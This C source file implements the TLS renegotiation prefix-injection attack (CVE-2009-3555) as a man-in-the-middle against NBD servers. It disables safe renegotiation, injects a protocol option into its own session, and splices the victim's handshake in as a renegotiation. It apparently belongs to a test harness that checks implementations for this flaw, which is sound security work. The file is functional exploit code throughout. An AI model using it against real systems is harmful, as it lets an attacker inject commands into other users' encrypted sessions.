// SPDX-License-Identifier: GPL-2.0-or-later
/* The renegotiation attack of 2009 (CVE-2009-3555, RFC 5746) on a protocol of turns: the attacker
 * has a TLS session of its own with the server, sends an option in it, and then passes on the
 * client's handshake as if it were a renegotiation. To the client it is its first one. */
#include "mitm.h"
#include "nbd/nbd-protocol.h"
#include "tls-record.h"
#include "base/wire.h"
#include <poll.h>
#include <string.h>
#include <sys/socket.h>

#define PRIORITY "NORMAL:-VERS-ALL:+VERS-TLS1.2:%DISABLE_SAFE_RENEGOTIATION"

struct prefix {
	int client_fd, server_fd;
	struct tls_record_keys out, in; /* of the session with the server */
	bool client_has_keys, server_has_keys;
	struct peer_shared *shared;
};

static bool receive_all(int fd, void *bytes, size_t size)
{
	return recv(fd, bytes, size, MSG_WAITALL) == (ssize_t)size;
}

/* OPT_STRUCTURED_REPLY, and its reply. */
static bool inject_option(gnutls_session_t session)
{
	uint8_t option[16] = {0}, reply[20];
	size_t got = 0;

	wire_put_u64(option, NBD_OPTION_MAGIC);
	wire_put_u32(option + 8, OPT_STRUCTURED_REPLY);
	if (gnutls_record_send(session, option, sizeof(option)) != sizeof(option))
		return false;
	while (got < sizeof(reply)) {
		ssize_t n = gnutls_record_recv(session, reply + got, sizeof(reply) - got);

		if (n <= 0)
			return false;
		got += (size_t)n;
	}
	return wire_get_u32(reply + 12) == NBD_REP_ACK;
}

static bool begin_session(struct prefix *prefix)
{
	gnutls_certificate_credentials_t credentials;
	gnutls_session_t session;

	gnutls_certificate_allocate_credentials(&credentials);
	gnutls_init(&session, GNUTLS_CLIENT | GNUTLS_NO_TICKETS);
	gnutls_priority_set_direct(session, PRIORITY, NULL);
	gnutls_credentials_set(session, GNUTLS_CRD_CERTIFICATE, credentials);
	gnutls_transport_set_int(session, prefix->server_fd);
	/* not freed: its keys are used as long as the process lives */
	return gnutls_handshake(session) >= 0 && inject_option(session) &&
		tls_record_keys_init(&prefix->out, session, false) &&
		tls_record_keys_init(&prefix->in, session, true);
}

static bool receive_record(int fd, uint8_t *record, size_t *size)
{
	if (!receive_all(fd, record, TLS_RECORD_HEADER_BYTES))
		return false;
	*size = TLS_RECORD_HEADER_BYTES + wire_get_u16(record + 3);
	return *size <= TLS_RECORD_MAX_BYTES &&
		receive_all(fd, record + TLS_RECORD_HEADER_BYTES, *size - TLS_RECORD_HEADER_BYTES);
}

/* What the client sends is put into the session until it has keys with the server. */
static bool from_client(struct prefix *prefix)
{
	uint8_t record[TLS_RECORD_MAX_BYTES], sealed[TLS_RECORD_MAX_BYTES];
	size_t size;

	if (!receive_record(prefix->client_fd, record, &size))
		return false;
	if (prefix->client_has_keys)
		return path_send(prefix->server_fd, record, size);
	prefix->client_has_keys = record[0] == TLS_CHANGE_CIPHER_SPEC;
	size = tls_record_seal(&prefix->out, record[0], record + TLS_RECORD_HEADER_BYTES,
		size - TLS_RECORD_HEADER_BYTES, 0, sealed);
	return size > 0 && path_send(prefix->server_fd, sealed, size);
}

static bool from_server(struct prefix *prefix)
{
	uint8_t record[TLS_RECORD_MAX_BYTES], opened[TLS_RECORD_MAX_BYTES], type;
	size_t size;

	if (!receive_record(prefix->server_fd, record, &size))
		return false;
	if (prefix->server_has_keys)
		return path_send(prefix->client_fd, record, size);
	if (!tls_record_open(
		    &prefix->in, record, size, &type, opened + TLS_RECORD_HEADER_BYTES, &size))
		return false;
	prefix->shared->fired = true;
	prefix->server_has_keys = type == TLS_CHANGE_CIPHER_SPEC;
	tls_record_put_header(opened, type, size);
	return path_send(prefix->client_fd, opened, TLS_RECORD_HEADER_BYTES + size);
}

void path_prefix_run(
	int client_fd, int server_fd, const uint8_t *starttls, struct peer_shared *shared)
{
	struct prefix prefix = {.client_fd = client_fd, .server_fd = server_fd, .shared = shared};
	struct pollfd fds[2] = {
		{.fd = client_fd, .events = POLLIN}, {.fd = server_fd, .events = POLLIN}};
	uint8_t reply[20];

	if (!path_send(server_fd, starttls, 16) || !receive_all(server_fd, reply, sizeof(reply)) ||
		wire_get_u32(reply + 12) != NBD_REP_ACK || !begin_session(&prefix) ||
		!path_send(client_fd, reply, sizeof(reply)))
		return;
	while (poll(fds, 2, -1) > 0) {
		if (fds[0].revents && !from_client(&prefix))
			return;
		if (fds[1].revents && !from_server(&prefix))
			return;
	}
}
